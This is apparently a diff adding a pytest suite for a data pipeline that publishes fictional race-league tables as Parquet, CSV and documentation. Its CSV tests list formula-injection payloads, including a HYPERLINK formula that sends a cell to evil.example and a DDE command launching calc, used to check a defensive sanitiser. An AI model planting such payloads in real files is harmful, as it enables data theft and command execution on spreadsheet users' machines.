@@ -1,0 +1,360 @@
+"""What readers of Parquet, CSV, datapackage.json and the documentation may rely on."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import re
+import sys
+from datetime import datetime
+from pathlib import Path
+
+import duckdb
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ingest.source import public_source
+from publish.datapackage import MOMENT
+from publish.spreadsheet import TABLES, harmless, write_rows
+from publish.tables import PublishedTable, published_tables
+from tests.helpers import schema
+from tests.helpers.pipeline import ROOT, Pipeline, contents
+from tests.helpers.readme import PYTHON, printed
+from tests.helpers.site import Parsed
+
+PAGE = (ROOT / "docs/exporting.md").read_text(encoding="utf-8")
+EXAMPLES = [(example["code"], example["answer"]) for example in PYTHON.finditer(PAGE)]
+
+
+def read(file: Path) -> dict:
+    return json.loads(file.read_text(encoding="utf-8"))
+
+
+def manifest(league: Pipeline) -> dict:
+    return read(league.data / "parquet/manifest.json")
+
+
+def dbt_manifest(league: Pipeline) -> dict:
+    return read(league.data / "build/target/manifest.json")
+
+
+@pytest.fixture(scope="module")
+def tables(everything) -> list[str]:
+    return [name for (name,) in everything.ask("show tables")]
+
+
+# Parquet
+
+
+def test_every_published_table_is_a_file_and_nothing_else_is(everything, tables):
+    files = {path.name for path in (everything.data / "parquet").iterdir()}
+    named = {f"{table}.parquet" for table in tables}
+    assert files == named | {"datapackage.json", "manifest.json"} and len(named) > 10
+
+
+def test_a_file_has_the_columns_types_rows_and_order_of_its_table(everything, tables):
+    for table in tables:
+        file = everything.data / f"parquet/{table}.parquet"
+        for question in ("describe from {}", "from {}"):
+            assert everything.ask(question.format(f"'{file}'")) == everything.ask(
+                question.format(table)
+            ), table
+    assert manifest(everything)["tables"]["prize_changes"]["rows"] == 0, "an empty one, too"
+    files = f"{everything.data}/parquet/*.parquet"
+    used = everything.ask(f"select distinct compression from parquet_metadata('{files}')")
+    assert used == [("ZSTD",)]
+
+
+def test_the_manifest_says_what_each_file_holds(everything, tables):
+    about = manifest(everything)
+    assert list(about["tables"]) == tables
+    for name, table in about["tables"].items():
+        file = everything.data / "parquet" / table["file"]
+        body = file.read_bytes()
+        assert table["bytes"] == len(body)
+        assert table["sha256"] == hashlib.sha256(body).hexdigest()
+        assert [(table["rows"],)] == everything.ask(f"select count(*) from {name}")
+        assert table["description"].startswith("One row per ")
+        assert all(column["type"] and column["description"] for column in table["columns"])
+        own = dict(
+            everything.ask(
+                f"select decode(key), decode(value) from parquet_kv_metadata('{file}')"
+            )
+        )
+        assert own["is_fictional"] == "true"
+        assert own["schema_version"] == about["schema_version"]
+
+
+def test_the_manifest_says_where_it_is_from_and_names_no_folder(everything, archive):
+    about = manifest(everything)
+    assert about["upstream"]["source"] == "a local copy"
+    assert about["packages"]["duckdb"] == duckdb.__version__
+    for moment in (about["built_at_utc"], about["upstream"]["loaded_at_utc"]):
+        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", moment)
+    assert about["built_at_utc"] >= about["upstream"]["loaded_at_utc"]
+    folders = map(str, (everything.data, ROOT, Path.home()))
+    assert not [folder for folder in folders if folder in json.dumps(about)]
+    assert (about["is_fictional"], manifest(archive)["is_fictional"]) == (True, False)
+
+
+@pytest.mark.parametrize(
+    ("source", "public"),
+    [
+        ("/home/somebody/race-data", "a local copy"),
+        ("../race-data", "a local copy"),
+        (r"C:\race-data", "a local copy"),
+        ("https://host.example/a/b", "https://host.example/a/b"),
+        ("https://me:secret@host.example:8443/a?token=1#x", "https://host.example:8443/a"),
+    ],
+)
+def test_a_source_is_published_without_what_is_private(source, public):
+    assert public_source(source) == public
+
+
+def test_a_new_mart_is_exported_without_another_edit_and_again_in_the_same_bytes(league):
+    """Quietly in a pipe; nothing comes back of what a killed run left behind."""
+    mart = league.project / "models/marts/fastest_laps.sql"
+    mart.write_text("select 1 as season, [1.5, null] as laps")
+    assert league.build_again("fastest_laps").returncode == 0
+    assert league.publish("--everything").returncode == 0
+    file = league.data / "parquet/fastest_laps.parquet"
+    assert league.ask(f"select season, len(laps) from '{file}'") == [(1, 2)]
+    described = manifest(league)["tables"]["fastest_laps"]["columns"]
+    assert [column["name"] for column in described] == ["season", "laps"]
+    before = contents(league.data / "parquet")
+    leftover = league.data / "releases/9/parquet/old.parquet"
+    leftover.parent.mkdir(parents=True)
+    leftover.write_text("half")
+    done = league.publish("--everything")
+    assert (done.returncode, done.stderr) == (0, "")
+    assert "Writing" not in done.stdout and "\x1b" not in done.stdout
+    assert contents(league.data / "parquet") == before
+
+
+def test_after_a_failed_test_everything_is_as_it_was(league):
+    """A car too many in a round: the models build, the test on them fails."""
+    before = contents(league.data, "league.duckdb", "parquet", "csv", "site")
+    model = league.project / "models/intermediate/int_awards.sql"
+    model.write_text(model.read_text().replace("<= line.quota", "<= line.quota + 1"))
+    select = ("--select", "int_awards", "prizes_follow_their_rules")
+    built = league.build("--exclude-resource-type", "unit_test", *select)
+    assert built.returncode == 1 and "the quota is" in built.stdout
+    done = league.publish("--everything")
+    assert done.returncode == 1
+    assert "prizes_follow_their_rules (error)" in done.stderr
+    assert contents(league.data, "league.duckdb", "parquet", "csv", "site") == before
+
+
+def test_no_published_column_changes_without_a_new_version(everything, tmp_path, monkeypatch):
+    found = schema.published(everything.data / "parquet/manifest.json")
+    assert not schema.differences(schema.committed(), found), (
+        "The published columns changed: docs/tables-changelog.md says what to do."
+    )
+    assert found["version"] == schema.committed()["version"] == schema.newest_entry()
+
+    kept = tmp_path / "published_schema.json"
+    old = schema.committed()
+    del old["tables"]["evo_winners"]["alias"]
+    kept.write_text(json.dumps(old))
+    monkeypatch.setattr(schema, "FILE", kept)
+    monkeypatch.setattr(sys, "argv", ["", str(everything.data / "parquet/manifest.json")])
+    with pytest.raises(SystemExit, match=r"evo_winners\.alias: nothing became VARCHAR"):
+        schema.main()
+    kept.write_text(json.dumps({**old, "version": "0.9"}))
+    schema.main()
+    assert "alias" in schema.committed()["tables"]["evo_winners"]
+
+
+def test_every_block_of_python_runs_anywhere_and_prints_on_the_real_archive_what_is_said(
+    everything, archive
+):
+    codes = " ".join(code for code, _ in EXAMPLES)
+    assert all(f"import {library}" in codes for library in ("duckdb", "pandas", "polars"))
+    assert len(EXAMPLES) == PAGE.count("```python") and "```r\n" in PAGE
+    for code, answer in EXAMPLES:
+        assert printed(code, everything.data)
+        assert printed(code, archive.data) == answer
+
+
+# datapackage.json
+
+CELLS = {
+    "boolean": {"true": True, "false": False}.__getitem__,
+    "date": datetime.fromisoformat,
+    "datetime": lambda cell: datetime.strptime(cell, MOMENT),
+    "integer": int,
+    "number": float,
+    "string": str,
+}
+
+
+@pytest.mark.parametrize("kind", ["parquet", "csv"])
+def test_a_data_package_names_every_file_with_its_columns_and_what_they_mean(everything, kind):
+    folder = everything.data / kind
+    described = read(folder / "datapackage.json")
+    files = {path.name for path in folder.iterdir() if path.suffix != ".json"}
+    assert {resource["path"] for resource in described["resources"]} == files
+    for resource in described["resources"]:
+        fields = resource["schema"]["fields"]
+        columns = everything.ask(f"select column_name from (describe {resource['name']})")
+        assert [field["name"] for field in fields] == [name for (name,) in columns]
+        assert all(field["description"] for field in fields), resource["name"]
+    assert described["id"] == manifest(everything)["build_id"]
+    assert described["version"] == manifest(everything)["data_version"]
+    assert "no licence" in described["description"]
+
+
+def test_every_key_of_a_data_package_holds_in_the_files(everything):
+    folder = everything.data / "parquet"
+    keys = references = 0
+    for resource in read(folder / "datapackage.json")["resources"]:
+        file, fields = folder / resource["path"], resource["schema"]
+        if key := fields.get("primaryKey"):
+            keys += 1
+            columns = ", ".join(key)
+            twice = f"select 1 from '{file}' group by {columns} having count(*) > 1"
+            assert not everything.ask(twice)
+        for reference in fields.get("foreignKeys", []):
+            references += 1
+            (column,), (to,) = reference["fields"], reference["reference"]["fields"]
+            there = folder / f"{reference['reference']['resource']}.parquet"
+            assert not everything.ask(
+                f"select 1 from '{file}' as here where {column} is not null and not exists "
+                f"(select 1 from '{there}' as there where there.{to} = here.{column})"
+            )
+    assert keys > 20 and references > 10
+
+
+# CSV
+
+TRIGGERS = tuple("=+-@＝＋－＠")
+NASTY = (
+    *('=HYPERLINK("http://evil.example/?"&A1,"me")', "=cmd|' /C calc'!A0", "+1+1", "-2+3"),
+    *("@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "a;=1+1", 'a,"=1+1'),
+    *("a\n=1+1", "-1lhRLeeRTCRUGoxx3ybDA"),
+)
+
+
+def test_a_name_that_could_be_a_formula_gets_an_apostrophe_and_no_other_does(tmp_path):
+    for alias in NASTY:
+        cell = harmless(alias)
+        assert cell.replace("'", "") == alias.replace("'", "")
+        assert not cell.startswith((*TRIGGERS, "\t", "\r", "\n"))
+        assert "'" in cell
+    for alias in ["S-P-", "a=b", "me@work", "007", "名前", "'quoted'", "", "NULL"]:
+        assert harmless(alias) == alias
+    write_rows(tmp_path / "a.csv", ["alias"], [[alias] for alias in NASTY])
+    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as lines:
+        assert list(csv.reader(lines)) == [["alias"], *([harmless(alias)] for alias in NASTY)]
+
+
+@given(st.lists(st.text(alphabet="=+-@＝;,\t\r\n\"' a1"), min_size=1, max_size=3))
+def test_no_cell_is_a_formula_whatever_a_spreadsheet_takes_for_the_separator(cells):
+    line = io.StringIO()
+    csv.writer(line).writerow([harmless(cell) for cell in cells])
+    for naive in (
+        *re.split(r"[;,\t\r\n]", line.getvalue()),
+        *next(csv.reader([line.getvalue()])),
+    ):
+        assert not naive.strip().lstrip('" \t').startswith(TRIGGERS)
+
+
+def test_the_csv_files_hold_the_winner_tables_row_for_row_and_type_for_type(everything):
+    folder = everything.data / "csv"
+    described = {r["name"]: r for r in read(folder / "datapackage.json")["resources"]}
+    assert set(described) == set(TABLES)
+    for table in TABLES:
+        body = (folder / f"{table}.csv").read_bytes()
+        assert body.startswith(b"\xef\xbb\xbf"), "without the mark Excel garbles names"
+        _, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
+        expected = everything.ask(f"select columns(*)::varchar from {table}")
+        assert [[cell.removeprefix("'") for cell in row] for row in rows] == [
+            [cell or "" for cell in row] for row in expected
+        ]
+        types = [CELLS[field["type"]] for field in described[table]["schema"]["fields"]]
+        for row in rows:
+            for as_type, cell in zip(types, row, strict=True):
+                assert cell == "" or as_type(cell) is not None
+        assert len(rows) > 2
+
+
+# Descriptions
+
+
+def not_described(table: PublishedTable, columns: list[str]) -> list[str]:
+    """What a reader of the table is not told, a sentence each."""
+    problems = []
+    if not re.match(r"One row per \w", table.description):
+        problems.append(f'{table.name}: expected "One row per …", found {table.description!r}')
+    return problems + [
+        f"{table.name}.{column}: no description"
+        for column in columns
+        if not table.columns.get(column)
+    ]
+
+
+@pytest.fixture(scope="module")
+def page(everything, tmp_path_factory) -> str:
+    """dbt's own documentation, as `make docs` leaves it."""
+    to = tmp_path_factory.mktemp("docs")
+    done = everything.run("python", "-m", "league", "docs", "--to", str(to / "docs"))
+    assert done.returncode == 0, done.stderr
+    assert everything.publish().returncode == 0, "the record of the build is left alone"
+    return (to / "docs/index.html").read_text(encoding="utf-8")
+
+
+def test_every_published_table_and_column_is_described_everywhere_grain_first(
+    everything, tables, page
+):
+    described = published_tables(dbt_manifest(everything))
+    assert [table.name for table in described] == tables
+    site = everything.data / "site"
+    for table in described:
+        columns = [row[0] for row in everything.ask(f"describe {table.name}")]
+        assert not not_described(table, columns)
+        # As comments in the database,
+        where = f"where schema_name = 'main' and table_name = '{table.name}'"
+        comments = everything.ask(f"select column_name, comment from duckdb_columns() {where}")
+        assert dict(comments) == table.columns
+        comment = everything.ask(f"select comment from duckdb_tables() {where}")
+        assert comment == [(table.description,)]
+        # on the site, and in dbt's own documentation.
+        shown = Parsed(site / f"table-{table.name}.html")
+        text = "".join(shown.text)
+        assert set(table.columns) <= set(shown.ids()) and table.sql in text
+        assert f'href="table-{table.name}.html"' in (site / "tables.html").read_text()
+        for words in (table.description, *table.columns.values()):
+            assert words.replace("`", "") in text, table.name
+            assert json.dumps(words)[1:-1] in page
+    bad = PublishedTable("cars", "All cars.", {"alias": "The name.", "race": ""})
+    assert len(not_described(bad, ["alias", "race", "season"])) == 3
+
+
+def test_the_documentation_names_no_folder_and_asks_no_other_host_for_anything(
+    everything, page
+):
+    for folder in (everything.data, everything.project, ROOT, Path.home() / ""):
+        assert f"{folder}/" not in page
+        assert f'{folder}"' not in page
+    tags = re.findall(r"<(?:script|link|img|iframe)\b[^>]*?(?:src|href)=[\"'](\w+:|//)", page)
+    assert not tags
+    # The page has a tracker in it, which it starts only where this says true.
+    assert re.findall(r'"send_anonymous_usage_stats": (\w+)', page) == ["false"]
+
+
+def test_the_exposures_name_what_is_published_and_all_of_it_is_public(everything, tables):
+    found = dbt_manifest(everything)
+    uses = {
+        exposure["name"]: {node.split(".")[2] for node in exposure["depends_on"]["nodes"]}
+        for exposure in found["exposures"].values()
+    }
+    assert uses.keys() >= {"parquet_files", "site"}
+    assert uses["parquet_files"] == set(tables), (
+        "models/exposures.yml lists every published table"
+    )
+    assert all(used <= set(tables) for used in uses.values())
+    models = [n for n in found["nodes"].values() if n["resource_type"] == "model"]
+    assert {n["access"] for n in models if n["schema"] == "main"} == {"public"}
